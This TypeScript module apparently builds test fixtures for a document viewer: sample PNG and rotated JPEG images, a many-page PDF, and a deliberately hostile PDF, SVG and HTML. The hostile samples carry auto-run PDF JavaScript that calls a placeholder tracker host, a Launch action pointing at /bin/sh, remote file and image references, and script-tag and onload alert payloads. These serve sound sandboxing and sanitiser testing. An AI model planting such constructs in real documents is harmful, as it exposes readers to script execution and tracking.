import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { encoded } from './compressed-pictures.ts';

const ELSEWHERE = 'http://tracker.example';

/** A PDF that would run, open and fetch whatever a reader lets it: scripts, links, files, pictures of other hosts. */
export async function hostilePdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([400, 400]);
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  page.drawText('<img src=x onerror=alert(1)>', { x: 40, y: 300, size: 18, font });
  const { context } = pdf;
  const script = (code: string) => ({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });
  const link = (action: object) => ({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 400, 400],
    Border: [0, 0, 0],
    A: action,
  });
  pdf.catalog.set(
    PDFName.of('OpenAction'),
    context.obj(script(`app.alert('run'); app.launchURL('${ELSEWHERE}/js'); this.submitForm('${ELSEWHERE}/form');`)),
  );
  pdf.catalog.set(PDFName.of('AA'), context.obj({ WC: script("app.alert('close')") }));
  pdf.catalog.set(
    PDFName.of('Names'),
    context.obj({ JavaScript: { Names: [PDFString.of('at start'), script("app.alert('name')")] } }),
  );
  page.node.set(PDFName.of('AA'), context.obj({ O: script("app.alert('page')") }));
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      link({ Type: 'Action', S: 'URI', URI: PDFString.of(`${ELSEWHERE}/link`) }),
      link({ Type: 'Action', S: 'Launch', F: PDFString.of('/bin/sh') }),
      link({ Type: 'Action', S: 'GoToR', F: PDFString.of(`${ELSEWHERE}/other.pdf`), D: [0, 'Fit'] }),
      link(script(`app.launchURL('${ELSEWHERE}/annot')`)),
    ]),
  );
  // A picture whose bytes are said to lie on another host (PDF 1.7, 7.3.8.2).
  const image = context.stream(new Uint8Array(), {
    Type: 'XObject',
    Subtype: 'Image',
    Width: 1,
    Height: 1,
    ColorSpace: 'DeviceRGB',
    BitsPerComponent: 8,
    F: { FS: 'URL', F: PDFString.of(`${ELSEWHERE}/picture`) },
  });
  page.node.setXObject(PDFName.of('Far'), context.register(image));
  await pdf.attach(Buffer.from('<script>alert(2)</script>'), 'page.html', { mimeType: 'text/html' });
  return Buffer.from(await pdf.save());
}

/** A PDF of many pages, to be drawn only where they are looked at. */
export async function longPdf(pages: number): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (let number = 1; number <= pages; number += 1)
    pdf.addPage([300, 400]).drawText(`Page ${number}`, { x: 40, y: 200, size: 40, font });
  return Buffer.from(await pdf.save());
}

const SIZE = { width: 60, height: 30 };
/** The left half red, the right half blue. */
const halves = Buffer.from(
  Array.from({ length: SIZE.width * SIZE.height }, (_, at) =>
    at % SIZE.width < 30 ? [220, 20, 20] : [20, 20, 220],
  ).flat(),
);

export function pngPicture(): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const whole = Buffer.alloc(body.length + 8);
    whole.writeUInt32BE(data.length, 0);
    body.copy(whole, 4);
    whole.writeUInt32BE(crc(body), body.length + 4);
    return whole;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(SIZE.width, 0);
  head.writeUInt32BE(SIZE.height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const rows = Array.from({ length: SIZE.height }, (_, row) =>
    Buffer.concat([Buffer.from([0]), halves.subarray(row * SIZE.width * 3, (row + 1) * SIZE.width * 3)]),
  );
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.concat(rows))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** ISO/IEC 15948, annex D. */
function crc(bytes: Buffer): number {
  let value = 0xffffffff;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  }
  return (value ^ 0xffffffff) >>> 0;
}

/** As a telephone writes it that was held upright: EXIF says to turn it right by 90 degrees (orientation 6). */
export async function sidewaysJpeg(): Promise<Buffer> {
  const jpeg = await encoded('jpeg', { ...SIZE, bitsPerSample: 8, componentCount: 3, isSigned: false, pixels: halves });
  const parts = [
    [0xff, 0xe1, 0x00, 0x22, 0x45, 0x78, 0x69, 0x66, 0, 0],
    [0x4d, 0x4d, 0x00, 0x2a, 0, 0, 0, 8, 0, 1],
    [0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6, 0, 0, 0, 0, 0, 0],
  ];
  const exif = Buffer.from(parts.flat());
  return Buffer.concat([jpeg.subarray(0, 2), exif, jpeg.subarray(2)]);
}

export const SVG = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="${ELSEWHERE}/svg"/><script>alert(2)</script></svg>`,
);
export const HTML = Buffer.from(`<!doctype html><script>alert(3)</script><img src="${ELSEWHERE}/html">`);
